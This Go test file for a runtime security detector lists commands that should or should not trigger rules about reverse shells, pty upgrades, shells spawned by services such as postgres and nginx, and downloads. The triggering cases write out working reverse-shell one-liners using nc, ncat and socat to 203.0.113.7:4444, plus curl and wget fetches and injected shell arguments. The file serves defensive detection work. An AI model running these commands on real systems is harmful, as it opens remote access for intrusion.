package policies_test

import "github.com/sightglass/sightglass/internal/schema"

var shellsScenarios = []scenario{
	{
		rule: "Remote shell tool",
		fires: []activity{
			exec("nc -e /bin/sh 203.0.113.7 4444"),
			exec("nc -lvp 4444 -e /bin/bash"),
			exec("ncat --exec /bin/bash 203.0.113.7 4444", in("web")),
			exec("socat TCP:203.0.113.7:4444 EXEC:/bin/bash,pty"),
		},
		silent: []activity{
			exec("nc -z db 5432"),
			exec("socat TCP-LISTEN:80,fork TCP:web:8080"),
			exec("tool -e /bin/sh"),
		},
	},
	{
		rule: "Shell opened a network connection",
		fires: []activity{
			connect("203.0.113.7:4444", by("bash -i"), in("web")),
			connect("10.1.2.3:80", by("zsh")),
			connect("[2001:db8::1]:443", by("bash")),
			connect("203.0.113.7:4444", by("bash"), failed(115)),
		},
		silent: []activity{
			connect("203.0.113.7:443", by("curl https://example.org")),
			connect("203.0.113.7:4444", by("bash"), failed(111)),
			connect("203.0.113.7:80", by("/bin/busybox wget http://x")),
		},
	},
	{
		rule: "Interactive shell without a terminal",
		fires: []activity{
			exec("sh -i", below("python3"), in("web")),
			exec("/bin/bash -i", below("perl")),
		},
		silent: []activity{
			exec("bash -i", tty(pts0), below("tmux: server")),
			exec("sh -c ls -i", below("make")),
		},
	},
	{
		rule: "Input and output handed to a connection",
		fires: []activity{
			duplicate(0, by("python3"), in("web")),
			duplicate(0, by("sh"), in("web")),
			duplicate(0, by("python3")),
			duplicate(0, by("bash")),
			duplicate(0, by("updater"), file("/home/ada/updater")),
			duplicate(0, by("httpd -f"), in("web")),
			duplicate(0, by("/bin/busybox nc -l"), named("nc"), in("web")),
		},
		silent: []activity{
			duplicate(7, by("python3"), in("web")),
			duplicate(1, by("python3"), in("web")),
			duplicate(0, by("smbd")),
			duplicate(0, by("bash"), attr(schema.NetworkPeerAddress, "127.0.0.1"), in("web")),
			duplicate(0, by("xinetd"), in("web")),
			duplicate(0, by("/bin/busybox httpd -f"), named("httpd"), in("web")),
		},
	},
	{
		rule: "Shell fed by an interpreter",
		fires: []activity{
			exec("sh", below("node")),
			exec("/bin/sh", below("python3.11", "sh"), in("web")),
			exec("bash", below("java"), in("web")),
		},
		silent: []activity{
			exec("sh -c true", below("node")),
			exec("bash", below("python3"), tty(pts0)),
			exec("sh", below("bash")),
			exec("sh", below("python3"), parentCommand("python3 -m ipykernel_launcher")),
			exec("sh", below("python3"), attr(schema.ProcessStdinFrom, "cat")),
		},
	},
	{
		rule: "Shell started by a network service",
		fires: []activity{
			exec("sh -c id", below("nginx"), user(33, "www-data")),
			exec("bash", below("postgres"), user(70, "postgres"), in("postgres")),
			exec("sh -c id", below("php-fpm8.2")),
			execArgs("sh", []string{"-c", "cp /bin/sh /tmp/x; pg_wal/00000001000000000000000A"}, below("postgres")),
			execArgs("sh", []string{"-c", "cp pg_wal/00000001000000000000000A /tmp/x; id"}, below("postgres")),
			execArgs("sh", []string{"-c", "cp $(id) pg_wal/00000001000000000000000A"}, below("postgres")),
			execArgs("sh", []string{"-c", "nc 203.0.113.7 4444 pg_wal/00000001000000000000000A"}, below("postgres")),
			execArgs("sh", []string{"-c", "cp pg_wal/00000001000000000000000A /srv/a"}, below("nginx")),
			exec("sh -c test ! -f /archive/1", below("postgres"), parentCommand("postgres: archiver last was 1")),
		},
		silent: []activity{
			exec("sh -c locale -a", below("postgres")),
			execArgs("sh", []string{"-c", "test ! -f /srv/a/00000001000000000000000A && cp pg_wal/00000001000000000000000A /srv/a/00000001000000000000000A"}, below("postgres")),
			execArgs("sh", []string{"-c", "test ! -f /srv/a/000000010000000000000003.00000028.backup && cp pg_wal/000000010000000000000003.00000028.backup /srv/a/"}, below("postgres")),
			execArgs("sh", []string{"-c", "gzip < pg_wal/00000001000000000000000A > /srv/a/00000001000000000000000A.gz"}, below("postgres")),
			execArgs("sh", []string{"-c", "/usr/bin/pgbackrest --stanza=main archive-push pg_wal/00000001000000000000000A"}, below("postgres")),
			exec("sh -c id", below("bash")),
			exec("id", below("nginx")),
		},
	},
	{
		rule: "Terminal shell in a container",
		fires: []activity{
			exec("bash", in("nginx"), tty(pts0), runcInit),
			exec("/bin/busybox sh", named("sh"), in("alpine"), tty(pts0), runcInit),
			exec("python3", in("app"), tty(pts0), attr(schema.ProcessVPID, int64(17)), runcInit),
			exec("psql", in("postgres"), tty(pts0), attr(schema.ProcessVPID, int64(17)), below("containerd-shim", "systemd")),
			exec("sh", in("app"), tty(noTTY), attr(schema.ProcessVPID, int64(17)), runcInit),
			exec("bash -s", in("app"), tty(noTTY), attr(schema.ProcessVPID, int64(17)), runcInit),
			exec("python3 -", in("app"), tty(noTTY), attr(schema.ProcessVPID, int64(17)), runcInit),
		},
		silent: []activity{
			exec("sh", in("app"), tty(noTTY), attr(schema.ProcessVPID, int64(1)), runcInit),
			exec("sh", in("app"), tty(noTTY), attr(schema.ProcessVPID, int64(17)), below("make", "containerd-shim")),
			exec("sh /probe.sh", in("app"), tty(noTTY), attr(schema.ProcessVPID, int64(17)), runcInit),
			exec("psql", in("postgres"), tty(noTTY), attr(schema.ProcessVPID, int64(17)), runcInit),
			exec("bash", tty(pts0), below("sshd")),
			exec("sh -c true", in("nginx"), tty(noTTY), runcInit),
			exec("python3 app.py", in("app"), tty(pts0), attr(schema.ProcessVPID, int64(1)), runcInit),
			exec("python3 probe.py", in("app"), tty(noTTY), attr(schema.ProcessVPID, int64(17)), runcInit),
			exec("python3", in("app"), tty(pts0), attr(schema.ProcessVPID, int64(18)), below("bash", "containerd-shim")),
			exec("bash", in("nginx"), tty(pts0), below("bash", "runc:[2:INIT]")),
			exec("ls", in("nginx"), tty(pts0), runcInit),
		},
	},
	{
		rule: "Terminal made by a script",
		fires: []activity{
			execArgs("python3", []string{"-c", "import pty; pty.spawn('/bin/bash')"}, below("sh", "nginx"), in("web")),
			execArgs("perl", []string{"-e", "use Socket; exec('/bin/sh -i')"}, below("sh")),
			exec("script -qc /bin/bash /dev/null", below("sh"), in("web")),
			exec("script /dev/null -c bash", below("sh"), in("web")),
			execArgs("script", []string{"-qc", "sh -i", "/dev/null"}, below("sh")),
			exec("script -q /dev/null", below("sh"), in("web")),
		},
		silent: []activity{
			execArgs("script", []string{"-qec", "npm test", "/dev/null"}, below("runner")),
			execArgs("script", []string{"-qec", "bash -c 'make test'", "/dev/null"}, below("runner")),
			execArgs("python3", []string{"-c", "print(1)"}),
			exec("python3 app.py"),
			exec("script -qc make /dev/null", tty(pts0)),
			execArgs("perl", []string{"-e", "print 1"}),
		},
	},
	{
		rule: "Download by a network service",
		fires: []activity{
			exec("curl -s http://203.0.113.7/x", below("sh", "nginx"), in("web")),
			exec("wget http://203.0.113.7/x", below("postgres")),
		},
		silent: []activity{
			exec("curl -s http://203.0.113.7/x", below("bash", "sshd")),
			exec("curl localhost", below("bash", "sshd", "nginx")),
			exec("nginx -t", below("nginx")),
		},
	},
}
